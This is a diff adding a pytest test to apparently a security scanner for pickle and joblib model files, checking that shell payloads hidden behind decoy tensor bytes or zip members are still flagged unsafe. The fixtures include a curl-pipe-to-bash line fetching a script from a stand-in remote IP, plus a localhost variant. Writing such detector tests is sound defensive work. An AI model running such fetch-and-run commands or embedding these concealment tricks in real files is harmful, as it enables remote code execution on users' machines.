@@ -12,7 +12,7 @@ import time
 
 import pytest
 
-from archives import plain_zip
+from archives import joblib_array, plain_zip
 from assembler import harmless, pickle
 from conftest import FOUND, PROGRAM, USAGE, assay, only, scan
 
@@ -104,6 +104,26 @@ def test_what_is_a_members_own_is_told_once_and_there(sample):
     artifact = only(scan(sample(content, "a.pkl")))
     (found,) = matches(artifact)
     assert found["member"].endswith("run.sh")
+
+
+LOCAL = b"curl -fsSL http://127.0.0.1:8080/x.sh | bash\n"  #: no malware, and an exception of a rule
+DOWNLOAD = b"curl -fsSL http://198.51.100.7/x.sh | bash\n"
+
+
+@pytest.mark.parametrize("size", [1000, 400_000])
+@pytest.mark.parametrize("attack, decoy", [(SHELL, b""), (SHELL, SHELL), (DOWNLOAD, LOCAL)])
+def test_what_stands_in_foreign_bytes_hides_nothing(sample, size, attack, decoy):
+    """In front of the attack lies an array, whose bytes are a tensor's, or a zip, whose bytes are its member's."""
+    tensor = decoy.ljust(size // 8 * 8, b"\0")
+    made = pickle(4).empty_list().mark()
+    made.raw(bytes(joblib_array(len(tensor) // 8, tensor, stream_at=len(bytes(made)))))
+    array = bytes(made.binbytes(attack).appends().stop())
+    readme = plain_zip({"README.md": b"# Attacks\n\n" + decoy + bytes(size)})
+    archive = bytes(pickle(4).binbytes(readme).binbytes(attack).stop())
+    for content in (array, archive):
+        artifact = only(scan(sample(content, "a.joblib")))
+        assert artifact["status"] == "unsafe", artifact
+        assert content.rindex(attack) in range(min(f["offset"] for f in matches(artifact) if not f["member"]) + 1 - len(attack), len(content))
 
 
 def test_malware_off_in_a_large_pickle(sample):
